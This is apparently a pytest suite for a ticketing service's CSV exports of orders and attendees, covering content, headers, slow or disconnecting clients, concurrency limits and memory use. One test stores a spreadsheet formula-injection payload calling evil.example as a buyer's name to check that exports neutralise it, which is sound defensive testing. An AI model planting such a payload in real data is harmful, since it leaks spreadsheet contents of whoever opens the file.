"""Do files of any length leave the house, whole or visibly not, without anybody else paying for it?"""

import asyncio
import csv
import re
import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from io import StringIO
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import aiohttp
import pytest
import pytest_asyncio
from redis.asyncio import Redis

from contracts.ids import EventId
from db.postgres import open_pool
from ingress.app import RESPONSE_TIMEOUT_SECONDS
from ingress.csv_files import FILES_AT_ONCE_MAX
from ops.stack import Stack
from tests.builders import settings_of
from tests.conftest import AnEvent, IngressWith
from tests.eventually import eventually
from tests.ingress_process import an_ingress
from tests.large_sale import a_large_sale
from tests.organisers import Answer, Client, a_client, a_small_sale, email_of


@pytest.fixture
async def organiser(ingress_url: str, redis: Redis, pool: Any) -> AsyncIterator[Client]:
    async with aiohttp.ClientSession(ingress_url) as http:
        yield await a_client(http, redis, pool, "admin")


async def rows_of(organiser: Client, path: str, **query: Any) -> list[dict[str, str]]:
    answer = await organiser.get(path, **query)
    assert answer.status == 200, answer
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["content-disposition"].startswith('attachment; filename="')
    assert answer.body.endswith(b"\r\n")
    return list(csv.DictReader(StringIO(answer.body.decode(), newline=""), strict=True))


async def test_orders_and_attendees_are_there_as_they_are(organiser: Client, an_event: AnEvent, pool: Any) -> None:
    small = await a_small_sale(an_event, pool)
    event_id, people = small.on_sale.event_id, small.people
    eve, ann = await email_of(pool, people["Eve"]), await email_of(pool, people["Ann"])

    orders = await rows_of(organiser, f"/api/admin/events/{event_id}/orders.csv")
    assert [(row["name"], row["kind"], row["seats"], row["total"], row["refunded"]) for row in orders] == [
        ("Eve", "complimentary", "Balcony A4", "0.00", "0.00"),
        ("Bob", "sale", "Stalls A3, Balcony A1", "30.00", "10.00"),
        ("Ann", "sale", "Stalls A1, Stalls A2", "40.00", "0.00"),
    ]
    assert {(row["currency"], row["status"]) for row in orders} == {("EUR", "completed")}
    assert (orders[2]["fee"], orders[2]["tax"], orders[2]["orderId"]) == ("3.36", "6.38", str(small.orders["Ann"]))

    attendees = await rows_of(organiser, f"/api/admin/events/{event_id}/attendees.csv")
    assert [
        (row["section"], row["seat"], row["email"], row["buyerEmail"], row["transferred"]) for row in attendees
    ] == [
        ("Stalls", "1", eve, ann, "true"),
        ("Stalls", "2", ann, ann, "false"),
        ("Stalls", "3", await email_of(pool, people["Bob"]), await email_of(pool, people["Bob"]), "false"),
        ("Balcony", "4", eve, eve, "false"),
    ]
    assert [bool(row["checkedInAt"]) for row in attendees] == [False, True, False, False]
    assert [row["kind"] for row in attendees] == ["sale", "sale", "sale", "complimentary"]


async def test_a_buyer_who_calls_himself_a_formula_is_text(organiser: Client, an_event: AnEvent, pool: Any) -> None:
    small = await a_small_sale(an_event, pool)
    formula = '=HYPERLINK("https://evil.example?"&A1,"Click, please")'
    await pool.execute("UPDATE users SET name = $2 WHERE id = $1", small.people["Ann"], formula)
    for file in ("orders", "attendees"):
        rows = await rows_of(organiser, f"/api/admin/events/{small.on_sale.event_id}/{file}.csv")
        assert f"'{formula}" in {row["name"] for row in rows}
        assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("file", ["orders.csv", "attendees.csv"])
async def test_an_event_that_is_not_there_has_no_files(organiser: Client, file: str) -> None:
    answer = await organiser.get(f"/api/admin/events/{uuid4()}/{file}")
    assert (answer.status, answer.body["code"]) == (404, "event_unknown")


async def test_a_head_reads_nothing(organiser: Client, an_event: AnEvent) -> None:
    sale = await an_event()
    answer = await organiser.send("HEAD", f"/api/admin/events/{sale.event_id}/orders.csv")
    assert (answer.status, answer.body) == (200, b"")
    assert answer.headers["content-disposition"].startswith("attachment")


# ---- what goes wrong with a long one


class SlowReader:
    """A client that has asked for a file and takes none of it until it is told to."""

    def __init__(self, url: str, path: str, organiser: Client) -> None:
        address = urlsplit(url)
        self._socket = socket.socket()
        # So that little is under way before the server has to wait.
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self._socket.connect((address.hostname or "", address.port or 0))
        self._socket.sendall(
            f"GET {path} HTTP/1.1\r\nhost: test\r\ncookie: {organiser.http.headers['cookie']}\r\n\r\n".encode()
        )

    def hang_up(self) -> None:
        self._socket.close()

    async def read_all(self) -> bytes:
        """Everything until the server closes or the last chunk is there."""
        self._socket.setblocking(False)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        loop, found = asyncio.get_running_loop(), bytearray()
        while not found.endswith(b"\r\n0\r\n\r\n"):
            try:
                part = await asyncio.wait_for(loop.sock_recv(self._socket, 1 << 20), 20)
            except ConnectionError:
                break
            if not part:
                break
            found += part
        return bytes(found)


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def long_sale(stack: Stack) -> AsyncIterator[tuple[str, EventId]]:
    """An ingress for these tests alone, and an event whose file of orders is some megabytes long."""
    settings = settings_of(stack)
    pool = await open_pool(settings, application_name="test")
    event_id = await a_large_sale(pool, seats=16_000, orders=8_000, name_length=250)
    pool.terminate()
    async with an_ingress(settings) as url:
        yield url, event_id


@dataclass
class LongFile:
    """Where it is, and who reads it."""

    url: str
    path: str
    organiser: Client
    pool: Any
    readers: list[SlowReader] = field(default_factory=list)

    async def read_slowly(self) -> SlowReader:
        """Somebody who has asked for it; the server waits for him by now."""
        before = len(await readings(self.pool))
        self.readers.append(SlowReader(self.url, self.path, self.organiser))
        await eventually(lambda: self._more_than(before))
        return self.readers[-1]

    async def _more_than(self, count: int) -> bool:
        return len(await readings(self.pool)) > count

    async def read(self) -> Answer:
        """All of it, at once."""
        return await self.organiser.get(self.path)


@pytest.fixture
async def long_file(long_sale: tuple[str, EventId], redis: Redis, pool: Any) -> AsyncIterator[LongFile]:
    url, event_id = long_sale
    async with aiohttp.ClientSession(url) as http:
        organiser = await a_client(http, redis, pool, "admin")
        file = LongFile(url, f"/api/admin/events/{event_id}/orders.csv", organiser, pool)
        yield file
    for reader in file.readers:
        reader.hang_up()
    await eventually(lambda: _nothing_is_read(pool))


async def readings(pool: Any) -> list[int]:
    """The sessions of PostgreSQL in which a file is being read and waits for its reader."""
    found = await pool.fetch(
        "SELECT pid FROM pg_stat_activity WHERE datname = current_database() AND application_name = 'ingress'"
        " AND state = 'idle in transaction' AND state_change < clock_timestamp() - interval '100 milliseconds'"
    )
    return [record["pid"] for record in found]


async def _nothing_is_read(pool: Any) -> bool:
    return not await readings(pool)


async def test_a_client_that_hangs_up_frees_the_connection(long_file: LongFile, pool: Any) -> None:
    reader = await long_file.read_slowly()
    reader.hang_up()
    await eventually(lambda: _nothing_is_read(pool))


async def test_more_than_some_at_once_are_told_to_come_back(long_file: LongFile, pool: Any) -> None:
    readers = [await long_file.read_slowly() for _ in range(FILES_AT_ONCE_MAX)]
    answer = await long_file.read()
    assert (answer.status, answer.body["code"], "retry-after" in answer.headers) == (503, "busy", True)
    assert (await readers[0].read_all()).endswith(b"\r\n0\r\n\r\n")
    assert (await long_file.read()).status == 200


async def test_half_a_file_does_not_look_like_all_of_it(long_file: LongFile, pool: Any) -> None:
    reader = await long_file.read_slowly()
    (session,) = await readings(pool)
    await pool.execute("SELECT pg_terminate_backend($1)", session)
    received = await reader.read_all()
    assert received.startswith(b"HTTP/1.1 200")
    assert not received.endswith(b"\r\n0\r\n\r\n")
    # And the ingress is none the worse for it.
    assert (await long_file.read()).status == 200


@pytest.mark.slow
async def test_a_client_that_takes_nothing_is_given_up(long_file: LongFile, pool: Any) -> None:
    await long_file.read_slowly()
    await eventually(lambda: _nothing_is_read(pool), within_seconds=RESPONSE_TIMEOUT_SECONDS * 2)


@pytest.mark.slow
async def test_a_hundred_thousand_tickets_take_constant_memory(
    ingress_with: IngressWith, redis: Redis, pool: Any
) -> None:
    url = await ingress_with()
    event_id = await a_large_sale(pool, seats=100_000, orders=50_000)
    async with aiohttp.ClientSession(url) as http:
        organiser = await a_client(http, redis, pool, "admin")
        await organiser.get(f"/api/admin/events/{uuid4()}/orders.csv")
        before = await resident_bytes(organiser)
        async with http.get(f"/api/admin/events/{event_id}/attendees.csv") as response:
            line_count = 0
            async for part in response.content.iter_chunked(1 << 16):
                line_count += part.count(b"\r\n")
            assert line_count == 100_001
        assert await resident_bytes(organiser) - before < 16 * 1024 * 1024


async def resident_bytes(organiser: Client) -> float:
    text = (await organiser.get("/metrics")).body.decode()
    found = re.search(r"^process_resident_memory_bytes (\S+)$", text, re.MULTILINE)
    assert found
    return float(found[1])
